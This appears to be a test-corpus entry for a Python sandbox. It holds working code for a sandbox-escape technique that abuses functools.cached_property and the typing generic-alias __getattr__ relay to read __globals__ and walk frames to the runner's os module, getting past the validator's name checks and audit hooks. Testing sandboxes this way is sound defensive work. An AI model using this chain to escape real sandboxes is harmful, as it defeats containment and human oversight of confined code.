# technique: functools.cached_property.__get__(instance) returns instance.__dict__.get(attrname), and attrname is a plain public attribute set at run time: called on a class (a readable __get__ dunder), it reads any entry of the class's __dict__ by a computed name, dunders included: the function type's __globals__ descriptor (CPython audits no read of __globals__) reads any function's globals, and _BaseGenericAlias.__dict__['__getattr__'] (the typing alias's attribute relay) then reads getattr(origin, name) for any non-dunder name in typing's frame, which the audit hook trusts: gi_frame, f_back, f_globals of the runner's frame (real builtins, os)
# source: functools.cached_property (instance.__dict__ read by a stored name) as getattr; typing._BaseGenericAlias.__getattr__ relay; trusted-module frame checks in audit hooks
# note: runtime-layer escape; the validator refuses __get__ and the '__getattr__' string
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import functools, json, typing


def class_entry(cls, name):
    cp = functools.cached_property(lambda s: None)
    cp.attrname = name
    return cp.__get__(cls)


GA = type(typing.List[int])
BASE = [c for c in GA.__mro__ if c.__name__ == '_BaseGenericAlias'][0]
relay = class_entry(BASE, '__getattr__')


def read(obj, name):
    return relay(GA(obj, (int,), name='x'), name)


def frames():
    fr = read(g, 'gi_frame')
    out = []
    while fr is not None:
        out.append(fr)
        fr = read(fr, 'f_back')
    yield out


g = frames()
stack = next(g)

attempt('cached_property(__getattr__) on _BaseGenericAlias -> gi_frame', lambda: stack[0])
attempt("... f_back chain -> the runner's frame f_globals", lambda: read(stack[-1], 'f_globals'))
attempt("... the runner's os", lambda: read(stack[-1], 'f_globals')['_os'])


def function_globals(fn):
    # FunctionType.__dict__['__globals__'] is a member descriptor; CPython
    # raises no audit event for reading __globals__
    return class_entry(type(fn), dn('globals')).__get__(fn)

attempt('cached_property(__globals__) on the function type -> json.dumps globals',
        lambda: function_globals(json.dumps))
